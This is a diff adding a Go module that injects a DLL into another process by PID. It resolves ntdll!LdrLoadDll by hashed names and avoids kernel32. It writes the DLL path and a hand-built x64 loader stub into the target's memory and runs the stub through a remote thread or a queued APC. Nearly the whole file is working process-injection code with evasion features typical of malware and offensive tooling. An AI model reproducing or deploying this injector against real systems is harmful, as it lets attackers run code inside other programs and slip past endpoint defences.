@@ -0,0 +1,183 @@
+// Package winapi - Remote DLL Loading Module
+// Provides DLL injection by path through ntdll!LdrLoadDll, without kernel32 in either process
+package winapi
+
+import (
+	"encoding/binary"
+	"fmt"
+	"time"
+	"unicode/utf16"
+	"unsafe"
+
+	"github.com/carved4/go-native-syscall/pkg/debug"
+	"github.com/carved4/go-native-syscall/pkg/obf"
+	"github.com/carved4/go-native-syscall/pkg/syscallresolve"
+)
+
+// DllInjectOptions configures InjectDLLPath. The zero value loads the DLL from a new thread
+// and waits up to 10 seconds for LdrLoadDll to return.
+type DllInjectOptions struct {
+	// Execution is ExecCreateThread or ExecQueueAPC
+	Execution ExecutionMethod
+	APC       ApcOptions // used by ExecQueueAPC
+	// WaitTimeout bounds the wait for the loader thread; 0 means 10 seconds. Not used with APCs.
+	WaitTimeout time.Duration
+}
+
+// DllInjectResult reports the outcome of InjectDLLPath
+type DllInjectResult struct {
+	// ModuleBase is the base address of the loaded DLL in the target, 0 when not known
+	ModuleBase uintptr
+	// LoadStatus is the NTSTATUS returned by LdrLoadDll, or STATUS_PENDING when the load has not
+	// been observed to finish (APC execution or a thread that outlived WaitTimeout)
+	LoadStatus uintptr
+	ApcThreads []uintptr // thread ids the loader stub was queued to with ExecQueueAPC
+}
+
+// Layout of the data page written to the target
+const (
+	dllDataUnicodeString = 0x00 // UNICODE_STRING describing the path
+	dllDataModuleHandle  = 0x10 // LdrLoadDll output
+	dllDataPath          = 0x20 // NUL-terminated UTF-16 path
+	dllDefaultWait       = 10 * time.Second
+)
+
+// InjectDLLPath makes pid load the DLL at path by running a small stub in the target that calls
+// ntdll!LdrLoadDll. The address of LdrLoadDll is resolved locally, which is valid in the target
+// because ntdll is mapped at the same base in every process of the same architecture.
+func InjectDLLPath(pid uint32, path string, opts DllInjectOptions) (*DllInjectResult, error) {
+	if path == "" {
+		return nil, stepError("validate", 0, fmt.Errorf("empty DLL path"))
+	}
+	if opts.Execution != ExecCreateThread && opts.Execution != ExecQueueAPC {
+		return nil, stepError("validate", 0, fmt.Errorf("execution method %d is not supported for DLL loading", opts.Execution))
+	}
+
+	ldrLoadDll := syscallresolve.GetFunctionAddress(syscallresolve.GetModuleBase(obf.GetHash("ntdll.dll")), obf.GetHash("LdrLoadDll"))
+	if ldrLoadDll == 0 {
+		return nil, stepError("resolve", 0, fmt.Errorf("failed to resolve ntdll!LdrLoadDll"))
+	}
+
+	injectOpts := InjectOptions{Execution: opts.Execution, APC: opts.APC}
+
+	var processHandle uintptr
+	clientId := CLIENT_ID{UniqueProcess: uintptr(pid)}
+	objAttr := OBJECT_ATTRIBUTES{Length: uint32(unsafe.Sizeof(OBJECT_ATTRIBUTES{}))}
+	status, err := NtOpenProcess(&processHandle, injectRequiredAccess(injectOpts)|PROCESS_VM_READ, uintptr(unsafe.Pointer(&objAttr)), uintptr(unsafe.Pointer(&clientId)))
+	if err != nil || status != STATUS_SUCCESS {
+		return nil, stepError("open", status, err)
+	}
+	defer NtClose(processHandle)
+
+	// data page: UNICODE_STRING, module handle slot and the path itself
+	chars := utf16.Encode([]rune(path))
+	pathBytes := len(chars) * 2
+	if pathBytes+2 > 0xFFFF {
+		return nil, stepError("validate", 0, fmt.Errorf("DLL path too long"))
+	}
+	data := make([]byte, dllDataPath+pathBytes+2)
+
+	dataSize := alignUp(uintptr(len(data)), 0x1000)
+	dataAddr, err := injectAllocate(processHandle, dataSize, PAGE_READWRITE, InjectOptions{})
+	if err != nil {
+		return nil, err
+	}
+	releaseData := func() {
+		base := dataAddr
+		freeSize := uintptr(0)
+		NtFreeVirtualMemory(processHandle, &base, &freeSize, MEM_RELEASE)
+	}
+
+	binary.LittleEndian.PutUint16(data[dllDataUnicodeString:], uint16(pathBytes))
+	binary.LittleEndian.PutUint16(data[dllDataUnicodeString+2:], uint16(pathBytes+2))
+	binary.LittleEndian.PutUint64(data[dllDataUnicodeString+8:], uint64(dataAddr+dllDataPath))
+	for i, c := range chars {
+		binary.LittleEndian.PutUint16(data[dllDataPath+i*2:], c)
+	}
+
+	var bytesWritten uintptr
+	status, err = NtWriteVirtualMemory(processHandle, dataAddr, unsafe.Pointer(&data[0]), uintptr(len(data)), &bytesWritten)
+	if err != nil || status != STATUS_SUCCESS {
+		releaseData()
+		return nil, stepError("write", status, err)
+	}
+
+	stub := buildLdrLoadDllStub(ldrLoadDll, dataAddr+dllDataUnicodeString, dataAddr+dllDataModuleHandle)
+
+	if opts.Execution == ExecCreateThread {
+		injectOpts.WaitTimeout = opts.WaitTimeout
+		if injectOpts.WaitTimeout <= 0 {
+			injectOpts.WaitTimeout = dllDefaultWait
+		}
+		injectOpts.FreeOnExit = true
+	}
+
+	injected, err := injectIntoHandle(pid, processHandle, stub, injectOpts)
+	if err != nil {
+		if injected == nil {
+			// the loader never started, so nothing in the target can still reference the data page
+			releaseData()
+			return nil, err
+		}
+		// The loader thread is running or in an unknown state; it may still read the path and
+		// write the module handle, so the data page and stub stay mapped
+		if injected.ThreadHandle != 0 {
+			NtClose(injected.ThreadHandle)
+		}
+		debug.Printfln("DLL", "Loader for %s in PID %d in unknown state, leaving data at 0x%X and stub at 0x%X\n", path, pid, dataAddr, injected.RemoteAddress)
+		return nil, err
+	}
+
+	result := &DllInjectResult{LoadStatus: STATUS_PENDING, ApcThreads: injected.ApcThreads}
+	if opts.Execution == ExecQueueAPC {
+		// The stub and data stay mapped: the APC runs whenever the thread becomes alertable
+		debug.Printfln("DLL", "LdrLoadDll stub for %s queued to %d threads of PID %d\n", path, len(injected.ApcThreads), pid)
+		return result, nil
+	}
+	defer NtClose(injected.ThreadHandle)
+
+	if !injected.ThreadExited {
+		debug.Printfln("DLL", "Loader thread in PID %d still running after %v, leaving stub at 0x%X\n", pid, injectOpts.WaitTimeout, injected.RemoteAddress)
+		return result, nil
+	}
+
+	if exitStatus, err := threadExitStatus(injected.ThreadHandle); err == nil {
+		result.LoadStatus = uintptr(exitStatus)
+	}
+	if moduleBase, err := readRemotePointer(processHandle, dataAddr+dllDataModuleHandle); err == nil {
+		result.ModuleBase = moduleBase
+	}
+	releaseData()
+
+	if result.LoadStatus != STATUS_SUCCESS {
+		return result, stepError("load", result.LoadStatus, fmt.Errorf("LdrLoadDll failed for %s", path))
+	}
+
+	debug.Printfln("DLL", "Loaded %s into PID %d at 0x%X\n", path, pid, result.ModuleBase)
+	return result, nil
+}
+
+// buildLdrLoadDllStub returns x64 code for LdrLoadDll(NULL, NULL, dllName, moduleHandle) that
+// returns the NTSTATUS, which becomes the thread's exit status when run as a thread
+func buildLdrLoadDllStub(ldrLoadDll uintptr, dllName uintptr, moduleHandle uintptr) []byte {
+	imm := func(v uintptr) []byte {
+		b := make([]byte, 8)
+		binary.LittleEndian.PutUint64(b, uint64(v))
+		return b
+	}
+
+	var stub []byte
+	stub = append(stub, 0x48, 0x83, 0xEC, 0x28) // sub rsp, 0x28
+	stub = append(stub, 0x31, 0xC9)             // xor ecx, ecx (SearchPath)
+	stub = append(stub, 0x31, 0xD2)             // xor edx, edx (DllCharacteristics)
+	stub = append(stub, 0x49, 0xB8)             // mov r8, dllName
+	stub = append(stub, imm(dllName)...)
+	stub = append(stub, 0x49, 0xB9) // mov r9, moduleHandle
+	stub = append(stub, imm(moduleHandle)...)
+	stub = append(stub, 0x48, 0xB8) // mov rax, LdrLoadDll
+	stub = append(stub, imm(ldrLoadDll)...)
+	stub = append(stub, 0xFF, 0xD0)             // call rax
+	stub = append(stub, 0x48, 0x83, 0xC4, 0x28) // add rsp, 0x28
+	stub = append(stub, 0xC3)                   // ret
+	return stub
+}